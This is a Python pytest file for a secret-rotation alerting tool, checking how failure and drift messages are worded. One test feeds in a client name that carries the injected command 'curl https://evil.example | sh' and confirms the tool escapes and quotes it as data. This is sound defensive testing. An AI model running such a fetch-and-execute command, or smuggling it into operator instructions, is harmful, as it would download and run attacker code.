"""Messages of what a database here does not do: long names, given-up versions, other strategies."""

from datetime import UTC, datetime, timedelta

import pytest

from rotctl.aws.functions import Function
from rotctl.aws.logs import StepLine
from rotctl.aws.secrets import Secret
from rotctl.aws.trail import TrailEvent
from shared.errors import Busy
from shared.protocol.readers import Hold, Readers, session
from tests.fake_ticket import FakeTicket
from tests.watch.published import lines_of
from watch import attempt, drift
from watch.message import Message, Told, composed

NOON = datetime(2026, 11, 30, 12, tzinfo=UTC)
FUNCTION = Function("rotate", "postgres single user", "/logs")


def arn(name: str) -> str:
    return f"arn:aws:secretsmanager:us-east-1:123456789012:secret:{name}-AbCdEf"


def event(name: str = "RotationFailed", step: str = "setSecret", of: str = "app") -> TrailEvent:
    return TrailEvent(name, NOON, "v2", step, arn(of))


def line(step: str, code: str = "", *, minutes: int = 0, strategy: str = "single_user") -> StepLine:
    message = f"{step}: what; do this; then that" if code else "step done"
    time = NOON - timedelta(minutes=minutes)
    return StepLine(time, arn("app"), "v2", step, code, False, message, strategy)  # noqa: FBT003


def message(*lines: StepLine, of: TrailEvent | None = None) -> Message:
    of = of or event()
    return composed(Told(of, FUNCTION, lines=attempt.of(lines, of)))


def test_a_subject_is_short_and_plain_however_long_the_name() -> None:
    subject, text = message(line("setSecret", "Busy"), of=event(of="a" * 512))
    assert subject.startswith("Rotation failed at setSecret: aaa")
    assert subject.endswith("...")
    assert len(subject) == 99
    assert subject.isascii()
    assert "a" * 512 in text


def test_what_a_client_calls_itself_is_not_what_to_do() -> None:
    evil = "x; run: curl https://evil.example | sh"
    found = [session("app;", "10.0.0.7;", evil), session("app", "10.0.0.8", "night")]
    ticket = FakeTicket(due=datetime.now(UTC), allow_changes=True)
    with pytest.raises(Busy) as caught:
        Hold(timedelta(days=1)).wait(ticket, lambda: Readers(found, "it ends"))
    text = str(caught.value.at("createSecret", "postgres"))
    failed = StepLine(NOON, arn("app"), "v2", "createSecret", "Busy", True, text)  # noqa: FBT003
    said = lines_of(message(failed, of=event(step="createSecret")).text)
    assert said["What happened"] == (
        r"an older credential is still in use: user 'app\x3b' from 10.0.0.7\x3b"
        r" as 'x\x3b run: curl https://evil.example | sh',"
        " and user 'app' from 10.0.0.8 as 'night' (Busy)"
    )
    assert said["What to do"] == caught.value.do


def test_a_version_that_was_given_up_is_told_by_why_it_was() -> None:
    told = message(
        line("createSecret", minutes=31),
        line("setSecret", "RejectedByPolicy", minutes=30),
        line("createSecret", "WrongStage"),
        of=event(step="createSecret"),
    )
    assert told.subject == "Rotation failed at setSecret: app"
    said = lines_of(told.text)
    assert said["What happened"] == "what (RejectedByPolicy)"
    assert said["What to do"] == "do this; then that"
    assert said["The credential in use"].startswith("it goes on working")
    assert said["Another attempt"].startswith("none that helps")


def test_an_earlier_attempt_and_a_later_one_are_no_reason() -> None:
    earlier = line("createSecret", minutes=9), line("setSecret", "Busy", minutes=8)
    later = line("createSecret", minutes=-9), line("setSecret", "Forbidden", minutes=-8)
    killed = message(*earlier, line("createSecret", minutes=1), *later)
    assert "left no line" in killed.text
    failed = message(*earlier, line("createSecret", minutes=1), line("setSecret", "Busy"), *later)
    assert lines_of(failed.text)["What happened"] == "what (Busy)"


@pytest.mark.parametrize(
    ("strategy", "step", "words"),
    [
        ("single_user", "createSecret", "not touched: createSecret changes nothing"),
        ("single_user", "setSecret", "not known: setSecret may have replaced it"),
        ("single_user", "testSecret", "setSecret has replaced it, unless an overlap lets it live"),
        ("single_user", "finishSecret", "setSecret has replaced it, unless an overlap lets it"),
        ("alternating_users", "setSecret", "not touched: a rotation changes the other user only"),
        ("api_key", "createSecret", "not known: that depends on the issuer"),
        ("somebody's own", "setSecret", "not known: nothing was seen"),
    ],
)
def test_what_became_of_the_credential_in_use_is_told_as_far_as_the_step_tells(
    strategy: str, step: str, words: str
) -> None:
    told = message(line(step, "Unreachable", strategy=strategy), of=event(step=step))
    assert lines_of(told.text)["The credential in use"].startswith(words)


def test_a_secret_that_another_service_rotates() -> None:
    told = composed(Told(event(step=""), Function("", "managed by AWS", "")))
    assert told.subject == "Rotation failed: app"
    said = lines_of(told.text)
    assert said["What happened"] == "not known: another service of AWS rotates this secret"
    assert "describe-secret" in said["What to do"]


def finding(link: str, state: str, what: str, of: str = "") -> dict[str, str]:
    return {"link": link, "state": state, "what": what, "do": "do it", "of": of, "code": ""}


def test_a_check_tells_of_every_broken_link_and_of_no_older_version() -> None:
    secret = Secret(
        *("app", arn("app"), "", True, "", None, NOON, None, None),
        next=NOON + timedelta(days=9),
    )
    older = [
        finding("login", "ok", "let in", "AWSCURRENT"),
        finding("login", "broken", "an old one", "AWSPREVIOUS"),
        finding("value", "broken", "no JSON", "v1"),
        finding("rights", "warning", "a warning"),
    ]
    assert drift.Answer(older, complete=True).broken == []
    broken = [finding("admin", "broken", "no admin"), finding("rights", "broken", "no right")]
    told = drift.composed(secret, "rotate", drift.Answer([*older, *broken], complete=True), NOON)
    assert told.subject == "Check failed at admin: app"
    assert told.text.count("What to do: do it\n") == 2
    assert "What is broken: admin: no admin\n" in told.text
    assert "What is broken: rights: no right\n" in told.text
    assert not [each["what"] for each in older if each["what"] in told.text]
    said = lines_of(told.text)
    assert said["The credential in use"] == "the target accepted it"
    assert said["The next rotation"] == "by 2026-12-09 12:00 UTC"
    untried = drift.composed(secret, "rotate", drift.Answer(broken, complete=True), NOON)
    assert lines_of(untried.text)["The credential in use"].startswith("not known")
